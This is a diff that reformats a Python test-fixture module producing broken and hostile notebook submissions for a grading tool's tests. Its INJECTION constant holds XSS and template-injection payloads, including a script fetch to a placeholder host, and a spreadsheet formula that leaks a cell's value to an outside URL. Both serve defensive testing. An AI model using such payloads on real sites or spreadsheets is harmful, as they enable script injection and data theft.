@@ -1,6 +1,8 @@
-"""Hand-ins as they really arrive when something went wrong, by accident or on purpose: the material of the sample class and of the hostile tests.
+"""Hand-ins as they really arrive when something went wrong, by accident or on purpose: the material of the sample class
+and of the hostile tests.
 
-Each function takes a good notebook (its JSON as Python data) and the file's name and returns the files that arrive instead.
+Each function takes a good notebook (its JSON as Python data) and the file's name and returns the files that arrive
+instead.
 """
 
 from __future__ import annotations
@@ -17,8 +19,9 @@ Files = list[tuple[str, bytes]]
 #: What an attacker would like to happen; the tests look for its traces.
 SENTINEL = "seminar_sentinel"
 INJECTION = (
-    f'</div></body><script>fetch("https://{SENTINEL}.invalid/")</script><img src=x onerror="alert(1)"><svg onload=alert(1)><iframe src="javascript:alert(1)"></iframe>'
-    f"[click](javascript:alert(1)) ![x](https://{SENTINEL}.invalid/x.png) <style>*{{display:none}}</style> {{{{7*7}}}} ${{7*7}}"
+    f'</div></body><script>fetch("https://{SENTINEL}.invalid/")</script><img src=x onerror="alert(1)"><svg'
+    ' onload=alert(1)><iframe src="javascript:alert(1)"></iframe>[click](javascript:alert(1))'
+    f" ![x](https://{SENTINEL}.invalid/x.png) <style>*{{display:none}}</style> {{{{7*7}}}} ${{7*7}}"
 )
 FORMULA = '=HYPERLINK("https://example.invalid/?"&A1,"marks")'
 
@@ -30,7 +33,12 @@ def encoded(notebook: dict) -> bytes:
 
 def record_outputs(notebook: dict) -> list[tuple[dict, dict]]:
     """Return (cell, output) for each output that carries a record."""
-    return [(cell, output) for cell in notebook["cells"] for output in cell.get("outputs", []) if MIME in output.get("data", {})]
+    return [
+        (cell, output)
+        for cell in notebook["cells"]
+        for output in cell.get("outputs", [])
+        if MIME in output.get("data", {})
+    ]
 
 
 def _again(stem: str, number: int = 1) -> str:
@@ -162,11 +170,35 @@ def old_format(notebook: dict, stem: str, random_: random.Random) -> Files:
     cells = []
     for cell in notebook["cells"]:
         if cell["cell_type"] == "code":
-            outputs = [{"output_type": "display_data", "metadata": {}, **output.get("data", {})} for output in cell["outputs"]]
-            cells.append({"cell_type": "code", "language": "python", "collapsed": False, "metadata": {}, "input": cell["source"], "outputs": outputs, "prompt_number": 1})
+            outputs = [
+                {"output_type": "display_data", "metadata": {}, **output.get("data", {})} for output in cell["outputs"]
+            ]
+            cells.append(
+                {
+                    "cell_type": "code",
+                    "language": "python",
+                    "collapsed": False,
+                    "metadata": {},
+                    "input": cell["source"],
+                    "outputs": outputs,
+                    "prompt_number": 1,
+                }
+            )
         else:
             cells.append({"cell_type": "markdown", "metadata": {}, "source": cell["source"]})
-    return [(f"{stem}.ipynb", encoded({"metadata": {"name": ""}, "nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": cells, "metadata": {}}]}))]
+    return [
+        (
+            f"{stem}.ipynb",
+            encoded(
+                {
+                    "metadata": {"name": ""},
+                    "nbformat": 3,
+                    "nbformat_minor": 0,
+                    "worksheets": [{"cells": cells, "metadata": {}}],
+                }
+            ),
+        )
+    ]
 
 
 def with_mark(notebook: dict, stem: str, random_: random.Random) -> Files:
@@ -186,7 +218,10 @@ def renamed_by_browser(notebook: dict, stem: str, random_: random.Random) -> Fil
 
 def with_system_files(notebook: dict, stem: str, random_: random.Random) -> Files:
     """macOS put its companion beside the file."""
-    return [(f"{stem}.ipynb", encoded(notebook)), (f"._{stem}.ipynb", b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        ")]
+    return [
+        (f"{stem}.ipynb", encoded(notebook)),
+        (f"._{stem}.ipynb", b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        "),
+    ]
 
 
 def empty(notebook: dict, stem: str, random_: random.Random) -> Files:
@@ -198,7 +233,27 @@ def empty(notebook: dict, stem: str, random_: random.Random) -> Files:
 KINDS: dict[str, Callable[[dict, str, random.Random], Files]] = {
     function.__name__: function
     for function in (
-        truncated, handed_in_twice, word_document, without_outputs, copied_cells, injection, pasted_outputs, older_question, pdf, wrong_assignment, with_mark,
-        wrong_types, renamed_by_browser, unknown_question, empty, utf16, mangled_record, old_format, with_system_files, pdf_in_disguise, deep, huge_answer,
+        truncated,
+        handed_in_twice,
+        word_document,
+        without_outputs,
+        copied_cells,
+        injection,
+        pasted_outputs,
+        older_question,
+        pdf,
+        wrong_assignment,
+        with_mark,
+        wrong_types,
+        renamed_by_browser,
+        unknown_question,
+        empty,
+        utf16,
+        mangled_record,
+        old_format,
+        with_system_files,
+        pdf_in_disguise,
+        deep,
+        huge_answer,
     )
-}  # fmt: skip
+}
